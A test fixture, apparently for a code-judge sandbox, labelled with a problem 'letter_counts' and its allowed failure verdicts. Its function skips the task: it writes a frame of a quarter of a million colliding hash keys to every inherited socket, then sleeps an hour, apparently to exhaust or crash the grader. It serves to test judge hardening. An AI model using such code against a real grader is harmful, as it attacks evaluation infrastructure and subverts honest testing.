# problem: letter_counts
# verdict: wrong_answer | runtime_error | crashed | exited | output_limit | timed_out | out_of_memory
# why: A view of a quarter of a million keys with one hash, in bytes that cost nothing to write.
# unsafe: true
# limits: tight
import os
import stat
import struct
import time


def letter_counts(text):
    prime = 2**61 - 1
    parts = []
    for n in range(5, 250_000):
        data = (n * prime).to_bytes(10, "little", signed=True)
        parts.append(b"L" + struct.pack("<I", len(data)) + data)
    body = b"K" + struct.pack("<I", len(parts)) + b"".join(parts)
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                frame = struct.pack("<IB", len(body), ord("V")) + body
                while frame:
                    frame = frame[os.write(fd, frame):]
        except OSError:
            pass
    time.sleep(3600)
